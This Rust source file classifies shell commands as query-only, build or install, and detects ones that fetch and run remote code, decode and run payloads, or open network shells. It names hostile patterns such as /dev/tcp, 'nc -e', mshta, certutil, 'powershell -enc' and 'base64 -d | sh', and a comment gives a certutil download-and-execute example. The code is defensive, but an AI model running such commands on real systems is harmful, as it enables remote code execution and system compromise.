//! Command lines: those that only ask, build or install, and those that fetch and run.

/// Programs that only tell something about the machine or the tree, or paint the terminal.
const ASKING: [&str; 61] = [
    "git",
    "hg",
    "dot",
    "uname",
    "ldconfig",
    "ldd",
    "nvidia-smi",
    "rocm-smi",
    "rocminfo",
    "which",
    "where",
    "whereis",
    "lsb_release",
    "sw_vers",
    "sysctl",
    "stty",
    "tput",
    "pkg-config",
    "clear",
    "cls",
    "color",
    "ver",
    "chcp",
    "date",
    "lscpu",
    "lspci",
    "lsmod",
    "df",
    "free",
    "nproc",
    "getconf",
    "locale",
    "tty",
    "file",
    "otool",
    "nm",
    "objdump",
    "readelf",
    "llvm-config",
    "xcode-select",
    "xcrun",
    "brew",
    "python-config",
    "nvcc",
    "hipconfig",
    "hipcc",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "mpicc",
    "mpirun",
    "java",
    "javac",
    "node",
    "ffmpeg",
    "ffprobe",
    "sox",
    "wmic",
];

/// True for a command that only asks.
pub(crate) fn only_asks(command: &str) -> bool {
    let plain = !command.contains(['|', ';', '&', '>', '<', '`', '$', '\n']);
    let first = command.split_whitespace().next().unwrap_or_default();
    let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    command.trim().is_empty() || (plain && ASKING.contains(&name))
}

/// Programs that build what lies in the tree.
const BUILDING: [&str; 16] = [
    "make",
    "cmake",
    "ninja",
    "npm",
    "yarn",
    "pnpm",
    "cargo",
    "go",
    "rustc",
    "meson",
    "swig",
    "cython",
    "protoc",
    "autoreconf",
    "bazel",
    "patchelf",
];

/// True for a command that builds what lies in the tree.
pub(crate) fn builds(command: &str) -> bool {
    let first = command.split_whitespace().next().unwrap_or_default();
    let name = first.rsplit('/').next().unwrap_or(first);
    BUILDING.contains(&name) || name == "./configure"
}

/// True for a command that installs packages.
pub(crate) fn installs(command: &str) -> bool {
    let words: Vec<&str> = command
        .split([' ', '\t', '\n', '"', '\'', ';', '&', '='])
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .collect();
    let tool = words.iter().position(|word| {
        let word = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        matches!(
            word,
            "pip"
                | "easy_install"
                | "conda"
                | "mamba"
                | "apt-get"
                | "apt"
                | "npm"
                | "gem"
                | "poetry"
                | "pipx"
        )
    });
    tool.is_some_and(|tool| {
        words.get(tool) == Some(&"easy_install")
            || words
                .iter()
                .skip(tool)
                .any(|word| matches!(*word, "install" | "i" | "add"))
    })
}

/// True for a command whose output of a program that fetches goes into one that runs it, or that
/// hands a shell or interpreter a connection.
pub(crate) fn fetches_and_runs(command: &str) -> bool {
    const FETCHERS: [&str; 11] = [
        "curl",
        "wget",
        "invoke-webrequest",
        "invoke-restmethod",
        "iwr",
        "irm",
        "downloadstring",
        "downloadfile",
        "bitsadmin",
        "certutil",
        "aria2c",
    ];
    let lower = command.to_ascii_lowercase();
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        return true;
    }
    let words: Vec<&str> = words(&lower);
    // Programs of Windows that run what an address gives.
    let runs_addresses = words.iter().any(|word| {
        matches!(
            word.trim_end_matches(".exe"),
            "mshta" | "regsvr32" | "msiexec" | "rundll32"
        )
    });
    if runs_addresses && lower.contains("http") {
        return true;
    }
    let fetched = words
        .iter()
        .position(|word| FETCHERS.contains(&word.trim_end_matches(".exe")));
    let Some(fetched) = fetched else {
        return (lower.contains("nc ") || lower.contains("ncat ") || lower.contains("socat "))
            && (lower.contains(" -e") || lower.contains("/bin/sh") || lower.contains("exec:"));
    };
    let chained = is_chained(&lower);
    let runs = words
        .iter()
        .enumerate()
        .any(|(index, word)| RUNNERS.contains(word) && (index != fetched));
    let made_runnable = words.contains(&"chmod") && chained;
    (chained && runs) || made_runnable || runs_what_it_names(&lower)
}

/// Programs that run what they are handed.
const RUNNERS: [&str; 14] = [
    "sh",
    "bash",
    "zsh",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "iex",
    "sudo",
    "dash",
    "invoke-expression",
    "ksh",
    "php",
];

fn words(lower: &str) -> Vec<&str> {
    lower
        .split(|c: char| !(c.is_alphanumeric() || c == '-' || c == '_' || c == '.'))
        .filter(|word| !word.is_empty())
        .collect()
}

fn is_chained(lower: &str) -> bool {
    lower.contains(['|', ';'])
        || lower.contains("&&")
        || lower.contains("$(")
        || lower.contains("<(")
        || lower.contains('`')
}

/// `certutil -f http://x/a.exe a.exe && a.exe`: a later part begins with what an earlier one names.
fn runs_what_it_names(lower: &str) -> bool {
    let parts: Vec<&str> = lower
        .split(['|', ';', '&', '\n'])
        .map(str::trim)
        .filter(|part| !part.is_empty())
        .collect();
    let Some(at) = parts.iter().position(|part| part.contains("://")) else {
        return false;
    };
    let earlier: Vec<&str> = parts
        .get(at)
        .map(|part| part.split_whitespace().collect())
        .unwrap_or_default();
    parts.iter().skip(at.saturating_add(1)).any(|part| {
        let first = part.split_whitespace().next().unwrap_or_default();
        let named = first.trim_start_matches("./");
        named.len() > 2
            && earlier
                .iter()
                .skip(1)
                .any(|word| *word == first || word.trim_start_matches("./") == named)
    })
}

/// True for a command that decodes something and runs it: `base64 -d | sh`, `powershell -enc`.
pub(crate) fn decodes_and_runs(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let words = words(&lower);
    let power = words
        .iter()
        .position(|word| matches!(word.trim_end_matches(".exe"), "powershell" | "pwsh"));
    if let Some(power) = power {
        let encoded = words.windows(2).skip(power).any(|pair| match pair {
            [option, value] => {
                option.len() > 1 && "-encodedcommand".starts_with(*option) && value.len() > 15
                    || *option == "-ec" && value.len() > 15
            }
            _ => false,
        });
        if encoded || lower.contains("frombase64string") && lower.contains("iex") {
            return true;
        }
    }
    let decoder = words.iter().position(|word| {
        matches!(
            *word,
            "base64" | "base32" | "xxd" | "openssl" | "rev" | "uudecode"
        )
    });
    let Some(decoder) = decoder else {
        return false;
    };
    let undoes = words.get(decoder).is_some_and(|word| *word == "rev")
        || words
            .iter()
            .skip(decoder)
            .any(|word| matches!(*word, "-d" | "--decode" | "-r" | "-di" | "-dec" | "-rp"))
        || lower.contains("base64 -D");
    let runs = words
        .iter()
        .skip(decoder)
        .any(|word| RUNNERS.contains(word) || *word == "eval")
        || words
            .iter()
            .take(decoder)
            .any(|word| matches!(*word, "eval" | "sh" | "bash" | "source"));
    undoes && runs && is_chained(&lower)
}

/// The host of the first address in a text that is a number: `203.0.113.9`. Those of the machine
/// itself and of networks inside a house are not told.
pub(crate) fn numbered_host(text: &str) -> Option<&str> {
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        rest = rest.get(at.saturating_add(3)..)?;
        let end = rest
            .find(|letter: char| !(letter.is_ascii_alphanumeric() || "@.-_:[]".contains(letter)))
            .unwrap_or(rest.len());
        let host = rest.get(..end)?;
        let host = host.rsplit('@').next().unwrap_or(host);
        let host = host.split(':').next().unwrap_or(host);
        if is_public_number(host) {
            return Some(host);
        }
    }
    None
}

fn is_public_number(host: &str) -> bool {
    let parts: Vec<u8> = host
        .split('.')
        .filter_map(|part| part.parse::<u8>().ok())
        .collect();
    let [first, second, _, _] = parts.as_slice() else {
        return false;
    };
    host.split('.').count() == 4
        && !matches!(
            (*first, *second),
            (0 | 10 | 127 | 224..=255, _)
                | (192, 168)
                | (172, 16..=31)
                | (169, 254)
                | (100, 64..=127)
        )
}
